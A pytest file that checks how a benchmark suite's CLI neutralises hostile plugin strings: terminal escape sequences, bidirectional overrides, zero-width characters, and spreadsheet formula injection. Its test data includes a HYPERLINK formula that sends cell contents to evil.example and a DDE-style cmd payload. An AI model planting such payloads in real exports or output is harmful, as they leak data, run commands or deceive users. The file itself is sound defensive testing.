"""A plugin's names and units reach the terminal and CSV files: control characters and bidirectional
overrides are shown as escapes, and CSV cells that a spreadsheet would run start with ``'``. The
strings are those of the hostile review (hostile10c, findings 5 and 6)."""

from __future__ import annotations

import csv
import io

import pytest

from suite.cli.common import emit
from suite.textsafe import csv_cell, visible

ANSI = "\x1b[2J\x1b[31mANSI\u202e"  # clears the screen, turns the text red, reverses the rest of the line
RESET_UNIT = "B\x1bc\x07\u202e"  # ESC c resets the terminal, BEL rings
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_visible_writes_each_hiding_character_as_its_escape():
    assert visible(ANSI) == "\\x1b[2J\\x1b[31mANSI\\u202e"
    assert visible(RESET_UNIT) == "B\\x1bc\\x07\\u202e"
    assert visible("a\rb\x9bc\u2066d\u2069") == "a\\x0db\\x9bc\\u2066d\\u2069"
    # what built-in names hold stays as it is: letters, '*', '-', '/', a µ, a line break, a tab
    for text in ("ddp-equal-batch*", "samples/s", "37 µs", "two\nlines", "a\tb", "Gbit/s ≥ 10"):
        assert visible(text) == text


def test_table_shows_a_variants_escape_sequence_as_text(capsys):
    emit([{"technique": "evil", "variant": ANSI, "unit": RESET_UNIT}], "table")
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out and "\x07" not in out
    assert "\\x1b[2J\\x1b[31mANSI\\u202e" in out
    assert "B\\x1bc\\x07\\u202e" in out


def test_csv_cells_that_a_spreadsheet_runs_start_with_a_quote(capsys):
    rows = [{"variant": LINK, "param.x": "@SUM(1+1)*cmd|' /C calc'!A0", "value": -1.5, "text": "-1.5",
             "name": "+cmd", "tab": "\tx", "plain": "ring"}]
    emit(rows, "csv")
    (got,) = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert got == {"variant": "'" + LINK, "param.x": "'@SUM(1+1)*cmd|' /C calc'!A0", "value": "-1.5",
                   "text": "-1.5", "name": "'+cmd", "tab": "'\tx", "plain": "ring"}


def test_results_show_csv_quotes_formulas_and_escapes_controls(capsys):
    from suite.cli.results import _show

    rows = [{"variant": LINK, "param.variant": "=1+1", "comm_bytes": 112e6, "delta": -2.0}]
    _show({"id": 1}, rows, list(rows[0]), "csv", units={"comm_bytes": RESET_UNIT})
    lines = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert lines[0] == ["variant", "param.variant", "comm_bytes [B\\x1bc\\x07\\u202e]", "delta"]
    assert lines[1] == ["'" + LINK, "'=1+1", "112000000.0", "-2.0"]
    assert csv_cell(-1.5) == -1.5 and csv_cell("+3") == "+3" and csv_cell("-inf") == "-inf"


def test_reproduce_scoreboard_shows_a_claims_escape_sequence_as_text(monkeypatch, tmp_path):
    """The scoreboard reaches a terminal as text: click strips ANSI only into a pipe, so on a
    terminal (``color=True`` here) a claim's ``ESC c`` reset it before."""
    from types import SimpleNamespace

    from click.testing import CliRunner

    import suite.cli.reproduce as rp
    from suite.cli import main

    monkeypatch.setattr(rp, "_run", lambda *a, **k: SimpleNamespace(outcomes=[], notes=[]))
    monkeypatch.setattr(rp, "_render", lambda *a, **k: f"evil: claim 'x\x1bc' {ANSI}: reproduced\n")
    monkeypatch.setattr(rp, "_exit", lambda board, strict: None)
    out = CliRunner().invoke(main, ["reproduce", "poseidon", "--store", str(tmp_path / "s.sqlite")], color=True).output
    assert "evil: claim 'x\\x1bc' \\x1b[2J\\x1b[31mANSI\\u202e: reproduced\n" in out
    assert "\x1b" not in out


def test_run_failure_and_skip_lines_show_escapes(capsys):

    """The lines under `suite run`'s table: a failed case's name and error, a skip's reason."""
    from types import SimpleNamespace

    import pandas as pd

    from suite.cli.run import report_summary

    summary = SimpleNamespace(failures=[{"status": "failed", "case": f"evil/{ANSI}", "key": "k1", "error": "boom\x1bc"}],
                              run_id=1, interrupted=False, skipped=1, failed=1, warnings=[], computed=1,
                              message=lambda resume: "run 1: 2 case(s)")
    store = SimpleNamespace(cases=lambda run: pd.DataFrame({"status": ["skipped"], "error": ["no \u202eGPU\x07"]}),
                            lost=lambda: None)
    with pytest.raises(SystemExit):  # a failed case: exit 1
        report_summary(store, summary, "table", quiet=True)
    err = capsys.readouterr().err
    assert "  failed: evil/\\x1b[2J\\x1b[31mANSI\\u202e [k1]: boom\\x1bc\n" in err
    assert "  skipped 1 case(s): no \\u202eGPU\\x07\n" in err


def test_zero_width_and_directional_marks_are_shown_too():
    """The escaped set missed format characters the run-name check already refused: "fast" and
    "fa\\u200bst" printed alike, and a right-to-left mark passed unwarned (a second reader). One
    character class now serves both (Unicode Cc, Cf, Cs, Co, Cn, Zl, Zp; line feed and tab kept)."""
    from suite.results.names import normalize_run_name
    from suite.textsafe import hidden_characters, visible

    assert visible("fa\u200bst") == "fa\\u200bst" and visible("x\u200fy\u2028") == "x\\u200fy\\u2028"
    assert hidden_characters("\ufeffz\u061c") == ["U+FEFF", "U+061C"]
    assert visible("µs ± 5 %\ta\nb") == "µs ± 5 %\ta\nb"  # text, tab and line feed as they are
    with pytest.raises(ValueError, match=r"U\+200B"):
        normalize_run_name("fa\u200bst")
